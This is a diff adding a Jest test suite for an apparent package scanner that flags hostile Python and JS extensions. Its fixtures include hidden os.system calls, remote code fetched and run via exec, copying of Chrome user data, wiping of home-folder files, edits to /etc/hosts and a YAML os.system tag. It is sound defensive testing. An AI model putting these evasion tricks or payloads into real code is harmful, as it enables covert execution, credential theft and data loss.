@@ -1,0 +1,280 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { analyseFile, zipOf } from '../support/archives.js';
+
+type Files = string | Readonly<Record<string, string>>;
+
+let folder: string;
+beforeAll(() => {
+  folder = mkdtempSync(join(tmpdir(), 'registry-outside-'));
+});
+afterAll(() => rmSync(folder, { recursive: true, force: true }));
+
+/** True if the package is held. A single text is its `__init__.py`. */
+async function isHeld(files: Files): Promise<boolean> {
+  const path = join(folder, 'archive.zip');
+  writeFileSync(path, await zipOf(typeof files === 'string' ? { '__init__.py': files } : files));
+  return (await analyseFile(path)).findings.some(({ level }) => level === 'hold');
+}
+
+const RUN = 'import os\ndef run(*a): os.system("a")\n';
+const HERE = 'import importlib, os, pathlib, pkgutil\nHERE = os.path.dirname(__file__)\n';
+const SCRIPT = 'import os\nos.system("a")\n';
+const THREAD = 'import os, threading\nclass T(threading.Thread):\n    def run(self): os.system("a")\n';
+const LOAD =
+  'function load(s) { const e = document.createElement("script"); e.src = s; document.head.appendChild(e); }\n';
+const page = (source: string): Files => ({ '__init__.py': 'WEB_DIRECTORY = "./web"\n', 'web/a.js': source });
+
+describe('the checks tell apart', () => {
+  it.each<[string, { honest: readonly Files[]; hostile: readonly Files[] }]>([
+    [
+      'the main block of a script',
+      {
+        honest: [
+          'import os, sys\nif __name__ == "__main__" and len(sys.argv) > 1: os.system("a")\n',
+          'import os\nif not __name__ != "__main__": os.system("a")\n',
+          'import os\nif __name__ != "__main__":\n    x = 1\nelse:\n    os.system("a")\n',
+          'import os\nx = 1\nif x > 1:\n    y = 2\nelif __name__ == "__main__":\n    os.system("a")\n',
+          'import os\nIS_SCRIPT = __name__ == "__main__"\nif IS_SCRIPT:\n    os.system("a")\n',
+        ],
+        hostile: [
+          'import os\nif __name__ == "__main__" or True: os.system("a")\n',
+          'import os\nif __name__ != "__main__": os.system("a")\n',
+          'import os\nif not __name__ == "__main__": os.system("a")\n',
+          'import os\nif __name__ == "__main__":\n    x = 1\nelse:\n    os.system("a")\n',
+          'import os\nif __name__ != "__main__" or os:\n    x = 1\nelif os:\n    os.system("a")\n',
+        ],
+      },
+    ],
+    [
+      'the files that a loop loads',
+      {
+        honest: [
+          {
+            '__init__.py': `${HERE}for file in sorted(pathlib.Path(__file__).parent.glob("node_*.py")):\n    importlib.import_module(f".{file.stem}", __package__)\n`,
+            'node_a.py': 'x = 1\n',
+            'release.py': SCRIPT,
+          },
+          {
+            '__init__.py': `${HERE}SKIP = {"__init__.py", "dev.py"}\nfor file in os.listdir(HERE):\n    if not file.endswith(".py") or file in SKIP or file.startswith("test_"): continue\n    importlib.import_module(f".{file[:-3]}", package=__name__)\n`,
+            'a.py': 'x = 1\n',
+            'dev.py': SCRIPT,
+            'test_a.py': SCRIPT,
+          },
+          {
+            '__init__.py': `${HERE}from . import nodes\nfor info in pkgutil.walk_packages(nodes.__path__, nodes.__name__ + "."):\n    importlib.import_module(info.name)\n`,
+            'nodes/__init__.py': '',
+            'nodes/a.py': 'x = 1\n',
+            'tools/publish.py': SCRIPT,
+          },
+          {
+            '__init__.py': `${HERE}from . import nodes\ndef load():\n    for info in pkgutil.iter_modules(nodes.__path__):\n        importlib.import_module(f".nodes.{info.name}", __package__)\nload()\n`,
+            'nodes/__init__.py': '',
+            'nodes/a.py': 'x = 1\n',
+            'release.py': SCRIPT,
+          },
+        ],
+        hostile: [
+          {
+            '__init__.py': `${HERE}for file in sorted(pathlib.Path(__file__).parent.glob("node_*.py")):\n    importlib.import_module(f".{file.stem}", __package__)\n`,
+            'node_a.py': SCRIPT,
+          },
+          {
+            '__init__.py': `${HERE}for file in os.listdir(HERE):\n    importlib.import_module(f".{file[:-3]}", package=__name__)\n`,
+            'release.py': SCRIPT,
+          },
+          {
+            '__init__.py': `${HERE}from . import nodes\nfor info in pkgutil.walk_packages(nodes.__path__, nodes.__name__ + "."):\n    pass\n`,
+            'nodes/__init__.py': '',
+            'nodes/inner/__init__.py': SCRIPT,
+          },
+          // The values that a thread passes to the function are not known.
+          {
+            '__init__.py': `${HERE}import threading\ndef load(folder):\n    for file in os.listdir(os.path.join(HERE, folder)):\n        importlib.import_module(f".{folder}.{file[:-3]}", __package__)\nload("nodes")\nthreading.Thread(target=load, args=("other",)).start()\n`,
+            'nodes/a.py': 'x = 1\n',
+            'other/b.py': SCRIPT,
+          },
+          // The package is loaded before the module that it lacks.
+          {
+            '__init__.py': `${HERE}for file in os.listdir(HERE):\n    importlib.import_module(f".{file[:-3]}.more", __package__)\n`,
+            'a.py': SCRIPT,
+          },
+        ],
+      },
+    ],
+    [
+      'a thread that is made and one that is started',
+      {
+        honest: [
+          `${RUN}import threading\nt = threading.Thread(target=run)\nclass N:\n    def go(self): t.start()\n`,
+          `${RUN}import multiprocessing\np = multiprocessing.Process(target=run)\n`,
+          `${THREAD}t = T()\nclass N:\n    def go(self): t.start()\n`,
+        ],
+        hostile: [
+          `${RUN}import threading\nthreading.Thread(target=run).start()\n`,
+          `${RUN}import threading\nt = threading.Timer(1, run)\ngetattr(t, "st" + "art")()\n`,
+          `${RUN}import threading\nlist(map(threading.Thread.start, [threading.Thread(target=run)]))\n`,
+          `${THREAD}T().start()\n`,
+          `${RUN}import threading\nclass T(threading.Timer):\n    def run(self): self.function()\nT(1, run).start()\n`,
+        ],
+      },
+    ],
+    [
+      'the special methods that a statement calls and others',
+      {
+        honest: [
+          'import os\nclass A:\n    def __enter__(self): os.system("a")\n    def __len__(self): return 1\na = A()\nprint(a, len(a))\nif a: pass\n',
+          'import os\nclass A:\n    def __rshift__(self, o): os.system("a")\n    def __add__(self, o): return self\na = A() + A()\n',
+        ],
+        hostile: [
+          'import os\nclass A:\n    def __bool__(self): os.system("a")\nany([A()])\n',
+          'import os\nclass A(dict):\n    def __missing__(self, k): os.system("a")\n"%(x)s" % A()\n',
+          'import contextlib, os\nclass A:\n    def __enter__(self): os.system("a")\n    def __exit__(self, *a): pass\ncontextlib.ExitStack().enter_context(A())\n',
+          'import contextlib, os\nclass A:\n    def close(self): os.system("a")\nwith contextlib.closing(A()): pass\n',
+          'import os\nclass A:\n    def write(self, s): os.system("a")\nprint("x", file=A())\n',
+          'import os, sys\nclass A:\n    def write(self, s): os.system("a")\nsys.stdout = A()\n',
+          'import os\nclass A:\n    @property\n    def x(self): os.system("a")\ngetattr(A(), "x")\n',
+        ],
+      },
+    ],
+    [
+      'a client that is made and one that connects',
+      {
+        honest: [
+          'import http.client, smtplib, telegram, websocket\nhttp.client.HTTPSConnection("a.example")\nsmtplib.SMTP()\ntelegram.Bot(token="a")\nwebsocket.WebSocketApp("ws://a.example")\n',
+          'from huggingface_hub import hf_hub_download\nhf_hub_download("a/b", "c.json", local_files_only=True)\n',
+        ],
+        hostile: [
+          'import http.client\nhttp.client.HTTPSConnection("a.example").request("GET", "/")\n',
+          'import smtplib\nsmtplib.SMTP("a.example")\n',
+          'import websocket\nwebsocket.WebSocketApp("ws://a.example").run_forever()\n',
+          'from huggingface_hub import hf_hub_download\nhf_hub_download("a/b", "c.json")\n',
+          'from requests.sessions import Session\nSession().post("https://a.example")\n',
+        ],
+      },
+    ],
+    [
+      'another name of a function and a use of it',
+      {
+        honest: [
+          'import subprocess\nProcess = subprocess.Popen\n',
+          'import functools, subprocess\nrun = functools.partial(subprocess.run, text=True)\ndef probe(path, runner=subprocess.run): return runner(["ffprobe", path])\n',
+        ],
+        hostile: [
+          'import os\nrun = os.system\n',
+          'import subprocess\nrun = subprocess.run\nrun(["a"])\n',
+          'import functools, subprocess\nfunctools.partial(subprocess.run, text=True)(["a"])\n',
+          'import subprocess, threading\nthreading.Thread(target=subprocess.run, args=(["a"],)).start()\n',
+          'import subprocess\ncall = {"a": subprocess.run}\n',
+        ],
+      },
+    ],
+    [
+      'a tag of YAML and a text about one',
+      {
+        honest: [
+          { '__init__.py': 'x = 1\n', 'a.yaml': '# like !!python/object/apply:os.system\na: 1\n' },
+          { '__init__.py': 'x = 1\n', 'a.yaml': 'a: "!!python/object/apply:os.system is refused"\n' },
+        ],
+        hostile: [
+          { '__init__.py': 'x = 1\n', 'a.yaml': 'a: !!python/object/apply:os.system ["id"]\n' },
+          { '__init__.py': 'x = 1\n', 'a.yaml': 'a: &b !!python/object/apply:os.system ["id"]\n' },
+        ],
+      },
+    ],
+    [
+      'what is read from the address of a text and what is sent there',
+      {
+        honest: [
+          'import requests\nclass A:\n    def go(self, x): return requests.get("https://pastebin.com/raw/" + x).text\n',
+          'import subprocess\nclass A:\n    def go(self, x): subprocess.run(["C:\\\\Program Files\\\\Google\\\\Chrome\\\\Application\\\\chrome.exe", x])\n',
+        ],
+        hostile: [
+          'import requests\nclass A:\n    def go(self, x): exec(requests.get("https://pastebin.com/raw/abc").text)\n',
+          'import subprocess\nclass A:\n    def go(self, x): subprocess.run(["cp", "C:\\\\Users\\\\a\\\\Google\\\\Chrome\\\\User Data", x])\n',
+        ],
+      },
+    ],
+    [
+      'a function that replaces one, and a name that a loop over modules looks for',
+      {
+        honest: [
+          'import urllib.request\norig = urllib.request.OpenerDirector.open\ndef wrap(o, url): return orig(o, url)\nurllib.request.OpenerDirector.open = wrap\n',
+          'import sys\ndef find(name):\n    for key, module in sys.modules.items():\n        found = getattr(module, name, None)\n        if found: return found\nclass A:\n    def go(self, x): return find("Yolo")(x)\n',
+          'import subprocess, sys\ndef ensure(package, name=None): subprocess.check_call([sys.executable, "-m", "pip", "install", name or package])\nensure("cv2", "numpy")\n',
+        ],
+        hostile: [
+          'import os, sys\ndef wrap(*a): os.system("a")\nsys.excepthook = wrap\n',
+          'import sys\ndef find(name):\n    for key, module in sys.modules.items():\n        found = getattr(module, name, None)\n        if found: return found\nclass A:\n    def go(self, x): return find("system")(x)\n',
+          'import subprocess, sys\ndef ensure(package, name=None): subprocess.check_call([sys.executable, "-m", "pip", "install", name or package])\nensure("unheard-of-package")\n',
+        ],
+      },
+    ],
+  ])('%s', async (_name, { honest, hostile }) => {
+    const held = async (all: readonly Files[]): Promise<boolean[]> => {
+      const found: boolean[] = [];
+      for (const files of all) found.push(await isHeld(files));
+      return found;
+    };
+    expect({ honest: await held(honest), hostile: await held(hostile) }).toEqual({
+      honest: honest.map(() => false),
+      hostile: hostile.map(() => true),
+    });
+  });
+});
+
+describe('the checks hold', () => {
+  it.each<[string, Files]>([
+    [
+      'what the host calls on an extension',
+      'import os\nfrom comfy_api.latest import ComfyExtension\nclass E(ComfyExtension):\n    async def on_load(self): os.system("a")\nasync def comfy_entrypoint(): return E()\n',
+    ],
+    [
+      'a list of core-nodes that starts a program',
+      'import os\nfrom comfy_api.latest import ComfyExtension\nclass E(ComfyExtension):\n    async def get_node_list(self):\n        os.system("a")\n        return []\n',
+    ],
+    [
+      'an own function by the name of the own module',
+      `${RUN}import sys\ngetattr(sys.modules[__name__], "r" + "un")()\n`,
+    ],
+    [
+      'methods of all subclasses',
+      'import os\nclass A: pass\nclass B(A):\n    def go(self): os.system("a")\nfor c in A.__subclasses__(): c().go()\n',
+    ],
+    [
+      'an object made without its constructor',
+      'import os\nclass A:\n    def __new__(cls):\n        made = object.__new__(cls)\n        made.go()\n        return made\n    def go(self): os.system("a")\nA()\n',
+    ],
+    ['constructors of YAML', `${RUN}import yaml\nyaml.SafeLoader.add_constructor("!run", run)\n`],
+    ['the body of a class that a function makes', `${RUN}import types\ntypes.new_class("A", (), {}, run)\n`],
+    ['hooks of models', `${RUN}import torch\ntorch.nn.Identity().register_forward_pre_hook(run)\n`],
+    [
+      'modules in a folder that is added to the package',
+      {
+        '__init__.py':
+          'import os\n__path__.append(os.path.join(os.path.dirname(__file__), "assets"))\nfrom . import boot\n',
+        'assets/boot.py': SCRIPT,
+      },
+    ],
+    ['code that Cython runs', 'import Cython\nCython.inline("x")\n'],
+    ['reports to a service', 'import os, sentry_sdk\nsentry_sdk.capture_message("a")\n'],
+    [
+      'the source of a module of the host',
+      'import pathlib, server\npath = pathlib.Path(server.__file__)\npath.write_text("a")\n',
+    ],
+    ['all files of the user', 'from pathlib import Path\nfor path in Path.home().rglob("*"): path.write_bytes(b"")\n'],
+    ['the hosts of the system', 'open("/etc/hosts", "a").write("127.0.0.1 a.example")\n'],
+    [
+      'a program whose further arguments clone a repository',
+      'import os\nos.execvp("git", ["git", "clone", "https://a.example/b"])\n',
+    ],
+    [
+      'the second of two scripts from elsewhere',
+      page(`${LOAD}load("https://code.jquery.com/a.js"); load("https://a.example/b.js");\n`),
+    ],
+  ])('%s', async (_name, files) => {
+    expect(await isHeld(files)).toBe(true);
+  });
+});
